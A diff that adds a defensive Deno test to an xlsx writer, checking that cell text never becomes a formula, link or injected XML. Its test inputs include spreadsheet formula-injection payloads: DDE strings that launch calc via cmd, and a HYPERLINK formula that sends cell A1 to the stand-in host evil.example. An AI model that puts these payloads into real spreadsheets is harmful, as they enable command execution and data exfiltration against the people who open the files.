@@ -159,6 +159,38 @@ Deno.test("xlsxWriter() writes a workbook that other readers unpack, exact and b
   assert.equal(files.has("[Content_Types].xml"), true);
 });
 
+Deno.test("xlsxWriter() makes no cell a formula, a link or another part of the file", async () => {
+  const begins = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", "\uff1d", "=1+"];
+  const cells = [
+    ...begins.map((begin) => `${begin}cmd|' /C calc'!A0`),
+    '=HYPERLINK("http://evil.example/"&A1)',
+    "http://evil.example/",
+    "</t></is></c><c><f>1+1</f></c>",
+    "]]><f>1</f>",
+    "&#61;1+1",
+    "1e5", // a number in a column of texts
+  ];
+  const parts: Uint8Array[] = [];
+  const writer = xlsxWriter((bytes) => Promise.resolve(void parts.push(bytes.slice())));
+  writer.columns([column("=cmd|' /C calc'!A0", "text"), column("n", "integer"), column("f", "float")]);
+  for (const cell of cells.slice(0, -1)) await writer.row(...packed([cell, cell, cell]));
+  await writer.end({ cut: false, ms: 0 });
+  await writer.close();
+  for (const [name, text] of await unpacked(parts)) {
+    assert.equal(
+      /<f[\s>]|hyperlink|externalLink|oleObject|macro/i.test(text.replace(/<t [^<]*<\/t>/g, "")),
+      false,
+      name,
+    );
+    if (!name.includes("sheet1")) continue;
+    assert.equal(
+      text.match(/<c t="inlineStr"><is><t xml:space="preserve">[^<]*<\/t><\/is><\/c>/g)!.length,
+      3 * cells.length,
+    );
+    assert.equal(text.match(/<c[ >]/g)!.length, 3 * cells.length);
+  }
+});
+
 Deno.test("xlsxWriter() says what a workbook cannot hold", async () => {
   const writer = xlsxWriter(() => Promise.resolve());
   writer.columns([column("s", "text")]);
